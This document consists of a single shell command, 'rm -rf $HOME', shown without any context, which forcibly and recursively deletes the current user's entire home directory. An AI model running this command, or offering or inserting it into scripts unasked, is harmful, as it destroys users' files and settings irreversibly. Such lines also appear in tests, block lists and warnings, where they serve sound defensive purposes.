rm -rf $HOME
